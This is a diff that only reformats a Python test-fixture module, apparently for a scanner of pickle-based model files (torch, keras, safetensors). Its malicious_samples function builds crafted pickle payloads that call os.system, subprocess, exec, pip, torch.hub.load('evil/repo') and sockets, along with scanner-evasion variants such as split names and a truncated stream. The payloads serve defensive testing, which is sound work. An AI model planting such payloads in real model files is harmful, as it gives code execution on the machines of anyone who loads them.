@@ -109,36 +109,96 @@ def malicious_samples() -> dict[str, bytes]:
     import subprocess
 
     stack_global_memo = (
-        proto(4) + ustr("o") + MEMOIZE + ustr("s") + MEMOIZE
+        proto(4)
+        + ustr("o")
+        + MEMOIZE
+        + ustr("s")
+        + MEMOIZE
         # build "os" and "system" from memo'd pieces is not possible without calls, so store
         # them once and fetch them back through GET: the names only meet on the stack.
-        + ustr("os") + put(10) + b"0" + ustr("system") + put(11) + b"0"
-        + get(10) + get(11) + STACK_GLOBAL + ustr("id") + TUPLE1 + REDUCE + STOP
+        + ustr("os")
+        + put(10)
+        + b"0"
+        + ustr("system")
+        + put(11)
+        + b"0"
+        + get(10)
+        + get(11)
+        + STACK_GLOBAL
+        + ustr("id")
+        + TUPLE1
+        + REDUCE
+        + STOP
     )
     computed_name = program(
-        call("builtins", "str", ustr("os")) + ustr("system") + STACK_GLOBAL
-        + ustr("id") + TUPLE1 + REDUCE, 4)
+        call("builtins", "str", ustr("os"))
+        + ustr("system")
+        + STACK_GLOBAL
+        + ustr("id")
+        + TUPLE1
+        + REDUCE,
+        4,
+    )
     build_on_global = program(
-        glob("collections", "OrderedDict") + NONE + EMPTY_DICT + ustr("__reduce__")
-        + glob("os", "system") + SETITEM + TUPLE2 + BUILD, 2)
+        glob("collections", "OrderedDict")
+        + NONE
+        + EMPTY_DICT
+        + ustr("__reduce__")
+        + glob("os", "system")
+        + SETITEM
+        + TUPLE2
+        + BUILD,
+        2,
+    )
     importlib_chain = program(
-        glob("builtins", "getattr") + MARK
-        + call("importlib", "import_module", ustr("os")) + ustr("system") + TUPLE + REDUCE
-        + MARK + ustr("id") + TUPLE + REDUCE, 2)
+        glob("builtins", "getattr")
+        + MARK
+        + call("importlib", "import_module", ustr("os"))
+        + ustr("system")
+        + TUPLE
+        + REDUCE
+        + MARK
+        + ustr("id")
+        + TUPLE
+        + REDUCE,
+        2,
+    )
     attrgetter = program(
-        call("operator", "attrgetter", ustr("system")) + MARK
-        + call("importlib", "import_module", ustr("os")) + TUPLE + REDUCE
-        + MARK + ustr("id") + TUPLE + REDUCE, 2)
+        call("operator", "attrgetter", ustr("system"))
+        + MARK
+        + call("importlib", "import_module", ustr("os"))
+        + TUPLE
+        + REDUCE
+        + MARK
+        + ustr("id")
+        + TUPLE
+        + REDUCE,
+        2,
+    )
     marshal_code = program(
-        glob("types", "FunctionType") + MARK
-        + call("marshal", "loads", sbytes(b"\xe3" + b"\x00" * 16)) + EMPTY_DICT + TUPLE
-        + REDUCE + EMPTY_TUPLE + REDUCE, 2)
+        glob("types", "FunctionType")
+        + MARK
+        + call("marshal", "loads", sbytes(b"\xe3" + b"\x00" * 16))
+        + EMPTY_DICT
+        + TUPLE
+        + REDUCE
+        + EMPTY_TUPLE
+        + REDUCE,
+        2,
+    )
     nested = program(call("pickle", "loads", sbytes(os_system())), 2)
-    nullifai = (proto(2) + call("posix", "system", ustr("id")) + b"\xff" * 4)  # no STOP
+    nullifai = proto(2) + call("posix", "system", ustr("id")) + b"\xff" * 4  # no STOP
     inst_protocol0 = b"(S'id'\nios\nsystem\n."
     python2_names = b"c__builtin__\neval\n(S'1+1'\ntR."
-    dotted = program(ustr("torch.serialization") + ustr("os.system") + STACK_GLOBAL
-                     + ustr("id") + TUPLE1 + REDUCE, 4)
+    dotted = program(
+        ustr("torch.serialization")
+        + ustr("os.system")
+        + STACK_GLOBAL
+        + ustr("id")
+        + TUPLE1
+        + REDUCE,
+        4,
+    )
     return {
         "os_system_reduce": os_system(),
         "os_system_protocol0": os_system(protocol=0),
@@ -150,14 +210,16 @@ def malicious_samples() -> dict[str, bytes]:
         "subprocess_check_output": reduce_pickle(subprocess.check_output, (["id"],)),
         "builtins_exec": reduce_pickle(builtins.exec, ("import os",)),
         "builtins_eval": reduce_pickle(builtins.eval, ("1+1",)),
-        "builtins_compile_getattr": program(call("builtins", "compile", ustr("1"), ustr("f"),
-                                                 ustr("eval")), 2),
+        "builtins_compile_getattr": program(
+            call("builtins", "compile", ustr("1"), ustr("f"), ustr("eval")), 2
+        ),
         "runpy_run_path": program(call("runpy", "run_path", ustr("/tmp/x.py")), 2),
         "runpy_run_code": program(call("runpy", "_run_code", ustr("print(1)"), EMPTY_DICT), 2),
         "importlib_import_module": importlib_chain,
         "pkgutil_resolve_name": program(
-            call("pkgutil", "resolve_name", ustr("os:system")) + MARK + ustr("id") + TUPLE
-            + REDUCE, 2),
+            call("pkgutil", "resolve_name", ustr("os:system")) + MARK + ustr("id") + TUPLE + REDUCE,
+            2,
+        ),
         "pip_main": program(call("pip", "main", b"]" + ustr("install") + b"a"), 2),
         "pip_internal_main": program(call("pip._internal", "main", b"]"), 2),
         "operator_attrgetter": attrgetter,
@@ -172,14 +234,14 @@ def malicious_samples() -> dict[str, bytes]:
         "python2_builtin_names": python2_names,
         "nullifai_broken": nullifai,
         "attribute_walk": dotted,
-        "asyncio_subprocess": program(call("asyncio.subprocess", "create_subprocess_shell",
-                                           ustr("id")), 2),
+        "asyncio_subprocess": program(
+            call("asyncio.subprocess", "create_subprocess_shell", ustr("id")), 2
+        ),
         "timeit_code_string": program(call("timeit", "timeit", ustr("import os")), 2),
         "pdb_run": program(call("pdb", "run", ustr("import os")), 2),
         "ensurepip_run_pip": program(call("ensurepip", "_run_pip", b"]"), 2),
         "numpy_f2py": program(call("numpy.f2py", "compile", ustr("x")), 2),
-        "torch_hub_load": program(call("torch.hub", "load", ustr("evil/repo"),
-                                       ustr("model")), 2),
+        "torch_hub_load": program(call("torch.hub", "load", ustr("evil/repo"), ustr("model")), 2),
         "webbrowser_open": program(call("webbrowser", "open", ustr("http://x")), 2),
         "socket_connect": program(call("socket", "create_connection", ustr("x")), 2),
     }
@@ -212,8 +274,9 @@ def torch_like_state_dict(tensors: int = 3) -> bytes:
     return out + STOP
 
 
-def torch_zip(path: Path, data_pkl: bytes, name: str = "archive", storages: int = 3,
-              storage_bytes: int = 48) -> Path:
+def torch_zip(
+    path: Path, data_pkl: bytes, name: str = "archive", storages: int = 3, storage_bytes: int = 48
+) -> Path:
     """A torch zip checkpoint: `<name>/data.pkl`, `<name>/data/<i>`, version, byteorder."""
     with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
         zf.writestr(f"{name}/data.pkl", data_pkl)
@@ -240,8 +303,13 @@ def npy_plain(values: int = 4) -> bytes:
     return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + b"\x00" * 8 * values
 
 
-def safetensors(tensors: dict[str, tuple[str, list[int], int]], *, header_extra: str = "",
-                trailing: bytes = b"", offsets: dict[str, list[int]] | None = None) -> bytes:
+def safetensors(
+    tensors: dict[str, tuple[str, list[int], int]],
+    *,
+    header_extra: str = "",
+    trailing: bytes = b"",
+    offsets: dict[str, list[int]] | None = None,
+) -> bytes:
     """A safetensors file: {name: (dtype, shape, nbytes)} laid out back to back."""
     header: dict[str, object] = {"__metadata__": {"format": "pt"}}
     cursor = 0
@@ -257,8 +325,11 @@ def safetensors(tensors: dict[str, tuple[str, list[int], int]], *, header_extra:
 
 
 def keras_zip(path: Path, layers: list[dict[str, object]]) -> Path:
-    config = {"module": "keras", "class_name": "Sequential",
-              "config": {"name": "seq", "layers": layers}}
+    config = {
+        "module": "keras",
+        "class_name": "Sequential",
+        "config": {"name": "seq", "layers": layers},
+    }
     with zipfile.ZipFile(path, "w") as zf:
         zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
         zf.writestr("config.json", json.dumps(config))
@@ -269,14 +340,17 @@ def keras_zip(path: Path, layers: list[dict[str, object]]) -> Path:
 def legacy_tar(path: Path, record: bytes | None = None) -> Path:
     """torch's legacy tar checkpoint: sys_info, pickle, storages, tensors."""
     if record is None:
-        record = program(ustr("0") + ustr("cpu") + glob("torch", "FloatStorage")
-                         + b"\x87", 2)
-    storages = (pickle.dumps(1, protocol=2) + record + struct.pack("<q", 2) + b"\x00" * 8
-                + pickle.dumps([], protocol=2))
+        record = program(ustr("0") + ustr("cpu") + glob("torch", "FloatStorage") + b"\x87", 2)
+    storages = (
+        pickle.dumps(1, protocol=2)
+        + record
+        + struct.pack("<q", 2)
+        + b"\x00" * 8
+        + pickle.dumps([], protocol=2)
+    )
     tensors = pickle.dumps(0, protocol=2)
     members = {
-        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True},
-                                 protocol=2),
+        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
         "pickle": program(glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE, 2),
         "storages": storages,
         "tensors": tensors,
